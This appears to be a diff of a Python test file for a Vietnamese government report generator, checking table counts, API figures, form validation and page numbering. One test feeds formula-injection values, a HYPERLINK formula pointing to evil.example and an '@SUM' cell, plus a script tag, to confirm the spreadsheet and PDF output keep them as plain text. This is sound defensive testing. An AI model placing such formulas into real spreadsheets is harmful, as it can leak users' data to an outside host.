@@ -16,6 +16,7 @@ from docx.oxml.ns import qn
 from openpyxl import load_workbook
 
 from dxday.plans.labels import CHOICE_LABELS
+from dxday.registry.models import Organisation
 from dxday.reports import document, snapshot
 from dxday.reports.render import render_docx, render_pdf, render_xlsx, text_width_pt
 
@@ -79,7 +80,11 @@ def check_figures(tables, expected, recipients):
     assert total_of(formats) == expected.activities
     places = find(tables, "Hoạt động theo địa bàn")
     assert total_of(places) == expected.activities
-    assert sorted(as_counts(places).values()) == sorted(expected.provinces.values())
+    names = dict(Organisation.objects.filter(code__in=expected.provinces).values_list(
+        "code", "name"))
+    assert as_counts(places) == {
+        names.get(code, "Không gắn với tỉnh, thành phố"): n
+        for code, n in expected.provinces.items()}
     beneficiaries = find(tables, "Sáng kiến số theo đối tượng thụ hưởng")
     assert as_counts(beneficiaries) == {vi("beneficiaries")[b]: expected.beneficiaries.get(b, 0)
                                         for b in CHOICE_LABELS["beneficiaries"]}
@@ -91,6 +96,18 @@ def check_figures(tables, expected, recipients):
     assert total_of(sectors) == expected.initiatives
     by_kind = find(tables, "Tình hình gửi kế hoạch theo loại đơn vị")
     assert by_kind[0][1:] == ["Loại đơn vị", *document.UNIT_COLUMNS]
+    sent = {"submitted", "accepted", "returned"}
+    kinds = {"Bộ": {"ministry"}, "Tỉnh, thành phố": {"province", "city"},
+             "Cơ quan ngang bộ, cơ quan thuộc Chính phủ": {"ministerial_agency",
+                                                          "government_agency"}}
+    rows = {r[1]: [int(v.replace(".", "")) for v in r[2:]] for r in by_kind[1:-1]}
+    assert set(rows) == set(kinds)
+    for label, kind in kinds.items():  # every row, not only the total
+        assert rows[label] == [expected.count(kind=kind), expected.count(kind=kind, state=sent),
+                               expected.count(kind=kind, on_time=True),
+                               expected.count(kind=kind, on_time=False),
+                               expected.count(kind=kind, state={"missing"}),
+                               expected.count(kind=kind, state={"accepted"})], label
     total = by_kind[-1]
     assert [int(v) for v in total[2:]] == [
         recipients, expected.count(state={"submitted", "accepted", "returned"}),
@@ -98,8 +115,14 @@ def check_figures(tables, expected, recipients):
         expected.count(state={"missing"}), expected.count(state={"accepted"})]
     provinces = find(tables, "Tình hình gửi kế hoạch theo tỉnh, thành phố")
     assert int(provinces[-1][2]) == expected.count(kind={"province", "city"})
-    assert int(provinces[-1][3]) == expected.count(kind={"province", "city"},
-                                                   state={"submitted", "accepted", "returned"})
+    assert int(provinces[-1][3]) == expected.count(kind={"province", "city"}, state=sent)
+    province_names = dict(Organisation.objects.filter(
+        code__in=[c for c, u in expected.units.items() if u[3]]).values_list("name", "code"))
+    for row in provinces[1:-1]:
+        code = province_names[row[1]]
+        assert [int(v) for v in row[2:5]] == [
+            expected.count(province=code), expected.count(province=code, state=sent),
+            expected.count(province=code, on_time=True)], row[1]
     missing = find(tables, "Đơn vị chưa gửi kế hoạch")
     assert len(missing) - 1 == expected.count(state={"missing"})
     assert [r[0] for r in missing[1:]] == [str(i) for i in range(1, len(missing))]  # STT
@@ -197,6 +220,14 @@ def test_campaign_page_and_api_show_the_same_counts(client, mixed, campaign):
     assert (api["recipients"], api["submitted"], api["late"], api["missing"]) == (
         campaign.recipients.count(), mixed.count(state={"submitted", "accepted", "returned"}),
         mixed.count(on_time=False), mixed.count(state={"missing"}))
+    by_kind = {g["key"]: g for g in api["by_kind"]}
+    assert by_kind["ministries"]["expected"] == mixed.count(kind={"ministry"})
+    assert by_kind["provinces"]["submitted"] == mixed.count(
+        kind={"province", "city"}, state={"submitted", "accepted", "returned"})
+    assert sum(p["expected"] for p in api["by_province"]) == mixed.count(
+        kind={"province", "city"})
+    assert {g["kind"]: g["counts"].expected for g in context["groups"]} == {
+        k: g["expected"] for k, g in by_kind.items()}
     recipients = client.get(f"/api/v1/campaigns/{campaign.year}/recipients",
                             {"limit": 1000}).json()["items"]
     assert Counter(r["status"] for r in recipients)["not_submitted"] == api["missing"]
@@ -247,8 +278,10 @@ def test_draft_then_issued_then_immutable(client, reviewer, mixed, campaign,
                                 "signer_title": "", "signer_name": "", "assessment": "",
                                 "recommendations": ""})
     assert refused.status_code == 422
-    errors = refused.context["errors"]
-    assert set(errors) == {"issue_date"}  # a bad date stops before the rest is checked
+    errors = refused.context["errors"]  # every problem at once, the bad date among them
+    assert set(errors) == {"number", "issue_date", "signer_title", "signer_name", "assessment",
+                           "recommendations"}
+    assert "dd/mm/yyyy" in errors["issue_date"]
     refused = client.post(url, {"action": "issue", "number": "abc", "issue_date": "",
                                 "signer_title": "", "signer_name": "", "assessment": "",
                                 "recommendations": ""})
@@ -323,9 +356,14 @@ def test_hostile_text_stays_text(taken):
     with pdfplumber.open(io.BytesIO(render_pdf(report))) as pdf:
         pdf_text = "\n".join(p.extract_text() for p in pdf.pages)
     assert "<script>alert(1)</script>" in pdf_text and "<b>đậm</b>" in pdf_text
+    taken["annexes"]["activities"][0][2] = '=HYPERLINK("http://evil.example/?x","X")'
+    taken["annexes"]["initiatives"][0][2] = "@SUM(A1:A9)"
     book = load_workbook(io.BytesIO(render_xlsx(taken, hostile)))
+    title = book["Phụ lục II"]["D5"]
+    assert title.data_type == "s" and title.value == "'=HYPERLINK(\"http://evil.example/?x\",\"X\")"
+    assert book["Phụ lục III"]["D5"].value == "'@SUM(A1:A9)"
     line = book["Phụ lục I"]["A3"]
-    assert line.data_type == "s" and not str(line.value).startswith("=")
+    assert line.data_type == "s" and 'Báo cáo số =HYPERLINK("http://evil' in line.value
 
 
 def test_report_command_with_signer(mixed, campaign, tmp_path):
@@ -358,7 +396,8 @@ def test_word_user_sees_one_line_quoc_hieu_and_a_whole_signer_block(taken, tmp_p
              for needle in ("PHÓ CỤC TRƯỞNG", "Nguyễn Văn Bình", "Nơi nhận:")}
     assert where["PHÓ CỤC TRƯỞNG"] == where["Nguyễn Văn Bình"] == where["Nơi nhận:"]
     assert len(where["Nguyễn Văn Bình"]) == 1
-    assert "2" in pages[1].splitlines()[0] if len(pages) > 1 else True
+    assert len(pages) > 1 and pages[1].splitlines()[0].strip() == "2"  # numbered from page 2
+    assert pages[0].splitlines()[0].strip() != "1"
 
 
 def test_checklist_on_the_docx(taken):
